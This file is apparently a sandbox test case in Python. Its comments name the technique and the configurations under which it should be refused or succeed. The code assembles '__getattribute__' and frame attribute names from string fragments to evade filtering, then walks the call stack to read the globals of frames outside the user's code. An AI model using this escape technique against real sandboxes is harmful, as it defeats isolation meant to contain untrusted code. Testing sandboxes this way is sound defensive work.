# technique: operator.methodcaller('__getattribute__', name) with run-time strings reads frame attributes
# configs: default, stdlib_all
# stdlib_all: in-process — operator/getattr read the task process's own frames
# With nothing allowed the imports are refused; under stdlib * this reads blocked frame attributes.
import operator
import sys
get = ''.join(['_' * 2, 'getattri', 'bute', '_' * 2])
back = operator.methodcaller(get, ''.join(['f_', 'back']))
glob = operator.methodcaller(get, ''.join(['f_', 'globals']))
frame = sys._getframe()
while frame is not None:
    g = glob(frame)
    if '_items' not in g and '_item' not in g:
        return [{'json': {'escaped': sorted(g)[:12]}}]
    frame = back(frame)
return [{'json': {'result': 'only user frames'}}]
